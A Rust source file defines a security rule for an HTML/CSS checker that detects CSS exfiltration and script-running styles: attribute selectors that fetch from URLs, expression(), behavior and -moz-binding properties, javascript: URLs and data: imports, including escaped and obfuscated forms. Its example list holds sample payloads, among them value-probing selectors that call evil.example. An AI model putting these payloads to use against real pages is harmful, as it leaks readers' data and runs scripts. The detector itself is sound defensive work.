//! `sec-css-exfil`: no style runs or tells.

use crate::check::Rulebook;
use crate::check::facts::Facts;
use crate::check::rule::*;
use crate::order;
use crate::text::Span;

pub(crate) static RULE: Rule = Rule {
    notice: Notice {
        id: "sec-css-exfil",
        area: Area::Security,
        jurisdictions: &["*"],
        source: "CSS attribute-selector exfiltration; CSS expressions and bindings",
        checked: None,
        effective_from: None,
        effective_to: None,
        severity: Severity::Error,
        waivable: false,
        title: Text { en: "Style that spies or runs", fr: "Style qui espionne ou s’exécute" },
        message: Text {
            en: "“{what}” lets a style run a program or send away what it sees.",
            fr: "« {what} » permet à un style d’exécuter un programme ou d’envoyer ce qu’il voit.",
        },
        why: Text {
            en: "It is an attack on the reader, and filters treat it so.",
            fr: "C’est une attaque contre le lecteur, et les filtres la traitent ainsi.",
        },
        fix: Text { en: "Take this part of the style out.", fr: "Retirez cette partie du style." },
    },
    check: Check::Piece(look),
    examples: proofs(&[
        Example::html("{}", "<style>[[input[value^=a] ]]{background:url(https://evil.example/a)}</style>"),
        Example::html("{}", r#"<style>@media all{[[a[data-x$="b"]]]{background:u\72l(//evil.example)}}</style>"#),
        Example::html(
            "{}",
            r#"<p style="width:[[expression(]]alert(1))">x</p><p style="[[-moz-binding]]:url(x)">y</p>"#,
        ),
        Example::html(
            "{}",
            r#"<p style="x:[[e\78pression(]]alert(1))">x</p><p style="[[be/**/havior]]:url(x.htc)">y</p>"#,
        ),
        Example::html(
            "{}",
            r#"<p style="background:url([[javascript:]]x)">x</p><style>[[@import "data:]],*{}";</style>"#,
        ),
        Example::html("{}", r"<!--[if mso]><style>v\:* { behavior: url(#default#VML); }</style><![endif]-->"),
        Example::html(
            "{}",
            r#"<style>a[x-apple-data-detectors]{color:red} td[class="hero"]{background:url(https://a.example/b.png)}</style>"#,
        ),
        Example::html(
            "{}",
            r#"<style>* [lang~="x-y"]{color:red} a[href^="tel"]{color:red}</style><p style="transition:opacity 1s;scroll-behavior:smooth">A facial expression (sad)</p>"#,
        ),
    ]),
};

fn look(facts: &Facts, _: &Rulebook, found: &mut Findings) {
    for tag in facts.tags() {
        if tag.name() == "style" {
            for text in tag.texts() {
                let css = tag.tree.text(text);
                let mut spans = dangers(css);
                spans.extend(spies(css));
                for part in spans {
                    say(part.of(css), tag.tree.origin(text, part), found);
                }
            }
        }
        if let Some(style) = tag.element.attribute("style") {
            let css = tag.tree.value(style);
            for part in dangers(css) {
                say(part.of(css), style.value.origin(part), found);
            }
        }
    }
}

fn say(what: &str, span: Span, found: &mut Findings) {
    found.say(found.at(span).with("what", what.trim()));
}

/// What runs, each with what may follow it.
const RUNS: &[&str] =
    &["expression(", "javascript:", "vbscript:", "@import\"data:", "@importurl(data:", "@importurl(\"data:"];
/// Properties that bind a program.
const BINDS: &[&str] = &["behavior", "-moz-binding", "-o-link", "-ms-behavior"];

/// Where a style runs something: as a browser reads it, without comments, escapes, spaces and capitals.
fn dangers(css: &str) -> Vec<Span> {
    let mut list = Vec::new();
    if !is_suspect(css) {
        return list;
    }
    let (clean, from) = cleaned(css);
    let origin = |start: usize, end: usize| {
        let start = from.get(start).copied().unwrap_or(css.len());
        // Up to the end of the last letter.
        let last = from.get(end.saturating_sub(1)).copied().unwrap_or(css.len());
        let next = from.get(end).copied().unwrap_or(css.len());
        let letter = css.get(last..next).and_then(|text| text.chars().next()).map_or(0, char::len_utf8);
        Span::new(start, if css.as_bytes().get(last) == Some(&b'\\') { next } else { last + letter })
    };
    for word in RUNS {
        list.extend(clean.match_indices(word).map(|(at, word)| origin(at, at + word.len())));
    }
    for word in BINDS {
        for (at, _) in clean.match_indices(word) {
            let before = clean.get(..at).and_then(|text| text.chars().next_back());
            let rest = clean.get(at + word.len()..).unwrap_or_default();
            let begins = before.is_none_or(|c| matches!(c, ';' | '{' | '}' | '"' | '\''));
            // Outlook’s own drawing language.
            let is_vml = rest.starts_with(":url(#default#vml)") || rest.starts_with(":url('#default#vml')");
            if begins && rest.starts_with(':') && !is_vml {
                list.push(origin(at, at + word.len()));
            }
        }
    }
    order::sort(&mut list);
    list.dedup();
    list
}

/// Whether a closer look is worth it: nearly no style has any of this.
fn is_suspect(css: &str) -> bool {
    let bytes = css.as_bytes();
    bytes.iter().enumerate().any(|(at, byte)| {
        let next = |word: &[u8]| bytes.get(at..at + word.len()).is_some_and(|found| found.eq_ignore_ascii_case(word));
        match byte {
            b'\\' => true,
            b'/' => bytes.get(at + 1) == Some(&b'*'),
            b'x' | b'X' => next(b"xpression"),
            b's' | b'S' => next(b"script"),
            b'b' | b'B' => next(b"behavior") || next(b"binding"),
            b'-' => next(b"-o-link"),
            b'd' | b'D' => next(b"data:"),
            128.. => true,
            _ => false,
        }
    })
}

/// A style as a browser reads it, in lower case without spaces, and where each byte of it stood.
fn cleaned(css: &str) -> (String, Vec<usize>) {
    let mut clean = String::with_capacity(css.len());
    let mut from = Vec::with_capacity(css.len());
    let mut at = 0;
    while let Some(c) = css.get(at..).and_then(|rest| rest.chars().next()) {
        let rest = css.get(at..).unwrap_or_default();
        let (shown, length) = match c {
            '/' if rest.starts_with("/*") => (None, rest.find("*/").map_or(rest.len(), |end| end + 2)),
            '\\' => escaped(rest),
            c if c.is_whitespace() || c.is_control() => (None, c.len_utf8()),
            c => (Some(c), c.len_utf8()),
        };
        if let Some(shown) = shown {
            // Full-width letters were read as plain ones.
            let plain = match u32::from(shown) {
                wide @ 0xff01..=0xff5e => char::from_u32(wide - 0xfee0).unwrap_or(shown),
                _ => shown,
            };
            clean.push(plain.to_ascii_lowercase());
            from.resize(clean.len(), at);
        }
        at += length.max(1);
    }
    (clean, from)
}

/// What an escape stands for, and how long it is.
fn escaped(rest: &str) -> (Option<char>, usize) {
    let digits = rest.bytes().skip(1).take(6).take_while(u8::is_ascii_hexdigit).count();
    if digits == 0 {
        let next = rest.chars().nth(1);
        return (next, 1 + next.map_or(0, char::len_utf8));
    }
    let code = rest.get(1..=digits).and_then(|text| u32::from_str_radix(text, 16).ok());
    let space = usize::from(rest.as_bytes().get(digits + 1).is_some_and(u8::is_ascii_whitespace));
    (code.and_then(char::from_u32), 1 + digits + space)
}

/// Attributes that tell nothing of a reader.
const HARMLESS: &[&str] =
    &["class", "id", "style", "lang", "dir", "width", "height", "align", "bgcolor", "owa", "role"];

/// Selectors that ask for the value of an attribute and fetch something where they hold.
fn spies(css: &str) -> Vec<Span> {
    let mut list = Vec::new();
    let mut from = 0;
    while let Some(open) = css.get(from..).and_then(|rest| rest.find('{')).map(|found| from + found) {
        let inside = css.get(open + 1..).unwrap_or_default();
        let close = inside.find(['{', '}']).unwrap_or(inside.len());
        let block = inside.get(..close).unwrap_or_default();
        let head = css.get(from..open).unwrap_or_default();
        let start = from + head.rfind([';', '}']).map_or(0, |at| at + 1);
        let selector = css.get(start..open).unwrap_or_default();
        if asks_value(selector) && fetches(block) {
            let lead = selector.len() - selector.trim_start().len();
            list.push(Span::new(start + lead, open));
        }
        from = open + 1;
    }
    list
}

/// Whether a block loads something.
fn fetches(block: &str) -> bool {
    let (clean, _) = cleaned(block);
    ["url(", "image-set(", "image(", "src("].iter().any(|word| clean.contains(word))
}

fn asks_value(selector: &str) -> bool {
    selector.split('[').skip(1).any(|rest| {
        let inside = rest.split(']').next().unwrap_or_default();
        inside.split_once('=').is_some_and(|(name, _)| {
            let name = name.trim().trim_end_matches(['^', '$', '*', '~', '|']).trim().to_ascii_lowercase();
            !HARMLESS.contains(&name.as_str())
        })
    })
}
